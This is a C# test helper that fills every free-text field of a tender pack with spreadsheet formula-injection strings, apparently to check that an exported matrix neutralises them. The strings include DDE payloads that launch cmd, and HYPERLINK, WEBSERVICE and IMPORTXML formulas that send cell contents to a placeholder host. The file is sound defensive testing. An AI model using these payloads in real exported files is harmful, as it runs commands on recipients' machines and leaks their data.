using Commissioning.Core.Tenders;

namespace Commissioning.Tests.Documents.Matrix;

/// <summary>
/// Text that a spreadsheet could run as a formula, including DDE payloads, put into every place
/// provider and user text reaches the matrix: provider names, question and section titles,
/// evaluator names, rationales, moderation reasons and decision reasons.
/// </summary>
internal static class InjectionCorpus
{
    public static readonly string[] Strings =
    [
        "=1+1",
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"https://example.invalid/?leak=\"&A1,\"Click here\")",
        "+1+1",
        "+cmd|' /C notepad'!'A1'",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "@cmd|'/c calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
        "=WEBSERVICE(\"https://example.invalid/\")",
        "\uFF1D1+1",
        "=IMPORTXML(CONCAT(\"https://example.invalid/?v=\",A1),\"//a\")",
        "=SUM(A1:A2)",
        "=2*3",
        "+A1",
    ];

    /// <summary>The pack with corpus strings in every free-text field the matrix shows (provider names kept distinct).</summary>
    public static TenderPack Poison(TenderPack pack)
    {
        var i = 0;
        string Next() => Strings[i++ % Strings.Length];
        var tender = pack.Tender with
        {
            Title = Next(),
            Evaluators = [.. pack.Tender.Evaluators.Select(e => e with { Name = Next() })],
            Lots = [.. pack.Tender.Lots.Select(l => l with
            {
                Title = Next(),
                Sections = [.. l.Sections.Select(s => s with { Title = Next(), Questions = [.. s.Questions.Select(q => q with { Title = Next() })] })],
            })],
        };
        var providerIndex = 0;
        return pack with
        {
            Tender = tender,
            Bids = [.. pack.Bids.Select(b => b with { Provider = Strings[providerIndex++ % Strings.Length] + (providerIndex > Strings.Length ? $" {providerIndex}" : string.Empty) })],
            Scores = [.. pack.Scores.Select(s => s with { Rationale = Next() })],
            Moderation = [.. pack.Moderation.Select(m => m with { Reason = Next() })],
            GateDecisions = [.. pack.GateDecisions.Select(d => d with { Reason = Next() })],
            LowPriceDecisions = [.. pack.LowPriceDecisions.Select(d => d with { Reason = Next() })],
        };
    }

    /// <summary>Line breaks as a spreadsheet stores them: a carriage return reads back as a line feed.</summary>
    public static string Normalise(string text) => text.Replace("\r\n", "\n", StringComparison.Ordinal).Replace('\r', '\n');
}
